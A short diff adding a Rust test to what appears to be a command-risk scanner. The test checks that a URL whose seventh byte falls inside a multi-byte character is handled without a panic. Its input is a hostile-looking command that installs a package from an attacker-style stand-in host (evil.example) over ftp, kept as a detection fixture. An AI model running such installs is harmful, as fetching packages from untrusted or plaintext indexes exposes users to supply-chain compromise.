@@ -49,3 +49,9 @@ fn plain_http_is_read_from_the_scheme_in_any_case() {
     assert_eq!(worst("pip install -i HTTP://pypi.org/simple requests"), Some(Severity::High));
     assert_eq!(worst("pip install -i https://pypi.org/simple requests"), None);
 }
+
+#[test]
+fn a_url_with_a_character_across_its_seventh_byte_is_read_without_a_panic() {
+    // `ftp://é…`: the scheme test's seven bytes end inside `é`.
+    assert_eq!(worst("pip install -i ftp://é.evil.example/simple acme"), Some(Severity::High));
+}
